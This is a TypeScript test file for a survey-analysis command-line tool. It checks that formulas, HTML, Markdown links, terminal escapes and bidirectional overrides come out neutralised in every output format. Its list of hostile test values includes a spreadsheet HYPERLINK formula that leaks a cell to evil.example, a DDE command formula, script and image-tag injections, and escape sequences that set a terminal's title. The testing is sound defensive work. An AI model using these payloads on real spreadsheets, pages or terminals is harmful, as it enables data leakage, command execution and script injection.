/**
 * Safe outputs: segment values and column names that are spreadsheet formulas, HTML, Markdown links,
 * pipes, terminal escape sequences, C1 controls and bidirectional overrides go through every command
 * in every format. CSV cells never start a formula, Markdown tables keep their shape and hold no live
 * HTML or links, terminal text carries no control characters, and JSON keeps the data exactly while
 * escaping what a terminal would obey.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { parseCsvText } from '../../src/io/csv-scanner.js';
import { renderCsv } from '../../src/report/render-csv.js';
import { runCli } from '../helpers.js';
import { parseXml } from '../xml.js';

/** Values a hostile export could hold in a segment column. */
const HOSTILE_VALUES = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1+1)*cmd',
  '\tTAB=1',
  '\r=1',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  'a|b||c',
  '[click](javascript:alert(1))',
  '![pixel](http://evil.example/t.png)',
  '\u001b[31mred\u001b[0m',
  '\u001b]0;owned\u0007title',
  '\u009b31mC1',
  '\u202eevil\u202c',
  'two\nlines',
  'back\\slash',
  '-1',
];

const CONTROL = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]/;
const BIDI = /[\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

const dir = mkdtempSync(path.join(os.tmpdir(), 'cxm-safe-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

/**
 * An export whose `region` values, comments and `=evil()` column are hostile (and whose header names
 * one column `=evil()`), four rows per value.
 */
function hostileExport(file: string, seed: number): string {
  const rows: (string | number)[][] = [];
  let k = seed;
  HOSTILE_VALUES.forEach((region, i) => {
    for (let j = 0; j < 4; j++) {
      k = (k * 48271) % 2147483647;
      const month = 1 + ((i + j) % 6);
      const other = HOSTILE_VALUES[(i + j + 3) % HOSTILE_VALUES.length];
      rows.push([`R${i}-${j}`, `2026-0${month}-1${j}T10:00:00Z`, region, other, k % 11, 1 + (k % 5), `${other} ${region}`, `c${i}@example.com`]);
    }
  });
  // written with cxm's own CSV writer would neutralise the values; write them raw, RFC 4180 quoted
  const quote = (v: string | number) => (typeof v === 'number' ? String(v) : `"${v.replaceAll('"', '""')}"`);
  const header = ['response_id', 'submitted_at', 'region', '=evil()', 'nps', 'csat', 'comment', 'email'];
  writeFileSync(file, `${[header.map(quote), ...rows.map((r) => r.map(quote))].map((r) => r.join(',')).join('\n')}\n`);
  return file;
}

const current = hostileExport(path.join(dir, 'current.csv'), 7);
const baseline = hostileExport(path.join(dir, 'baseline.csv'), 11);

/** A customer file keyed by the export's emails whose `tier` values are the hostile ones. */
const customers = path.join(dir, 'customers.csv');
writeFileSync(customers, `email,tier\n${HOSTILE_VALUES.map((v, i) => `c${i}@example.com,"${v.replaceAll('"', '""')}"`).join('\n')}\n`);

/** Comment tag rules whose tag names are hostile (a tag is a segment value of `--by tag`). */
const tags = path.join(dir, 'tags.json');
writeFileSync(tags, JSON.stringify(Object.fromEntries(HOSTILE_VALUES.map((v, i) => [`${v} #${i}`, [`R${i}`, 'red', 'evil', '/script|img/i']]))));

type Format = 'table' | 'csv' | 'markdown' | 'json' | 'html' | 'junit' | 'github';

interface Case {
  name: string;
  args: string[];
  formats: Format[];
  /** the output lists every region value */
  listsRegions: boolean;
}

const STANDARD: Format[] = ['table', 'csv', 'markdown', 'json'];
const CASES: Case[] = [
  { name: 'score', args: ['score', current, '--by', 'region,=evil()', '--min-n', '1'], formats: STANDARD, listsRegions: true },
  { name: 'crosstab', args: ['crosstab', current, '--rows', 'region', '--cols', '=evil()', '--min-n', '1', '--ci'], formats: STANDARD, listsRegions: true },
  { name: 'trend', args: ['trend', current, '--every', 'month', '--by', 'region', '--min-n', '1', '--window', '2'], formats: STANDARD, listsRegions: true },
  { name: 'compare (files)', args: ['compare', current, baseline, '--by', 'region', '--min-n', '1'], formats: STANDARD, listsRegions: true },
  { name: 'compare (periods)', args: ['compare', current, '--period', '2026-Q2', '--against', '2026-Q1', '--by', '=evil()', '--min-n', '1'], formats: STANDARD, listsRegions: false },
  { name: 'inspect', args: ['inspect', current, baseline], formats: STANDARD, listsRegions: false },
  { name: 'check', args: ['check', current, '--min', 'nps=30', '--by', 'region', '--min-n', '1', '--rule', 'point'], formats: [...STANDARD, 'junit', 'github'], listsRegions: true },
  { name: 'report', args: ['report', current, '--every', 'month', '--as-of', '2026-06-30', '--by', 'region', '--min-n', '1', '--comments', '100'], formats: ['markdown', 'html', 'json'], listsRegions: false },
  { name: 'followup', args: ['followup', current, '--group', 'all', '--by', 'region'], formats: STANDARD, listsRegions: true },
  { name: 'drivers', args: ['drivers', current, '--by', 'region,=evil()', '--min-n', '1'], formats: STANDARD, listsRegions: true },
  { name: 'rank', args: ['rank', current, '--by', 'region'], formats: STANDARD, listsRegions: true },
  { name: 'score --join', args: ['score', current, '--join', customers, '--on', 'email', '--by', 'tier', '--min-n', '1'], formats: STANDARD, listsRegions: true },
  { name: 'score --tags', args: ['score', current, '--tags', tags, '--by', 'tag', '--min-n', '1'], formats: STANDARD, listsRegions: false },
  { name: 'score --emit tallies', args: ['score', current, '--by', 'region,=evil()', '--emit', 'tallies'], formats: ['csv', 'json'], listsRegions: true },
];

function expectNoControls(text: string): void {
  expect(text.replaceAll('\n', '')).not.toMatch(CONTROL);
  expect(text).not.toMatch(BIDI);
}

/** A formula cell: starts like one, is not a plain number, and is not neutralised with a quote. */
function isFormula(cell: string): boolean {
  return /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?(e-?\d+)?$/i.test(cell);
}

const CHECKS: Record<Format, (out: string, c: Case) => void> = {
  table(out, c) {
    expectNoControls(out);
    if (c.listsRegions) expect(out).toContain('red'); // the text stays, the escape goes
  },
  csv(out, c) {
    const rows = parseCsvText(out);
    for (const row of rows) for (const cell of row) expect(isFormula(cell), JSON.stringify(cell)).toBe(false);
    expect(out).not.toMatch(CONTROL);
    if (c.listsRegions) expect(rows.flat()).toContain(`'=cmd|' /C calc'!A0`);
  },
  markdown(out) {
    expectNoControls(out);
    const unescapedPipes = (line: string) => line.replace(/\\\\/g, '').replace(/\\\|/g, '').split('|').length - 1;
    let width = -1;
    for (const line of out.split('\n')) {
      if (!line.startsWith('|')) {
        width = -1;
        continue;
      }
      if (width === -1) width = unescapedPipes(line);
      expect(unescapedPipes(line), line).toBe(width);
    }
    const text = out.replace(/\\\\/g, '');
    expect(text).not.toMatch(/(^|[^\\])<(script|img)/);
    expect(text).not.toMatch(/(^|[^\\])\]\(/);
  },
  json(out, c) {
    expectNoControls(out);
    const text = JSON.stringify(JSON.parse(out));
    // segment values are read trimmed, like every cell
    if (c.listsRegions) for (const v of HOSTILE_VALUES) expect(text).toContain(JSON.stringify(v.trim()).slice(1, -1));
  },
  html(out) {
    expect(out).not.toMatch(/<(script|img)/i);
    expect(out).not.toMatch(/\u001b|\u0007/);
    expect(out).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
  },
  junit(out) {
    expect(() => parseXml(out)).not.toThrow();
    expect(out).not.toMatch(/<(script|img)/i);
  },
  github(out) {
    expectNoControls(out);
    for (const line of out.trimEnd().split('\n')) expect(line).toMatch(/^(::(error|warning) title=|cxm check: )/);
  },
};

describe('safe outputs in every command and format', () => {
  for (const c of CASES) {
    describe(c.name, () => {
      for (const format of c.formats) {
        it(format, async () => {
          const r = await runCli([...c.args, '--format', format], format === 'table' ? { tty: true, env: { NO_COLOR: '1' } } : {});
          expect([0, 1], r.stderr).toContain(r.code);
          expectNoControls(r.stderr);
          CHECKS[format](r.stdout, c);
        });
      }
    });
  }
});

describe('errors and warnings name hostile values safely', () => {
  it('an error line carrying a file name or value with escape sequences prints neither', async () => {
    const file = path.join(dir, 'x\u001b]0;owned\u0007.csv');
    const r = await runCli(['score', file]);
    expect(r.code).toBe(2);
    expectNoControls(r.stderr);
    expect(r.stderr.split('\n').length).toBe(2); // one line and its end
  });

  it('a warning quoting an invalid value shows it escaped', async () => {
    const file = path.join(dir, 'bad-values.csv');
    writeFileSync(file, 'id,nps\n1,"9\u001b[2J"\n2,"\u009b8"\n3,7\n');
    const r = await runCli(['score', file]);
    expect(r.code).toBe(0);
    expectNoControls(r.stderr);
    expect(r.stderr).toMatch(/bad-values.csv:2: column "nps": "9\\u001b\[2J" is not a score/);
  });
});

describe('the CSV writer', () => {
  it('neutralises formulas and marks removed control characters (U+FFFD), keeping plain numbers', () => {
    const out = renderCsv(['v'], [['=1+1'], ['-3'], ['-3+1'], ['+44 20'], ['@x'], ['\tx'], ['ok\u001b[0m'], ['\u0085x'], [-2.5], ['a,b "c"\nd']]);
    expect(parseCsvText(out).slice(1).map((r) => r[0])).toEqual(["'=1+1", '-3', "'-3+1", "'+44 20", "'@x", "'\tx", 'ok\ufffd[0m', '\ufffdx', '-2.5', 'a,b "c"\nd']);
  });
});
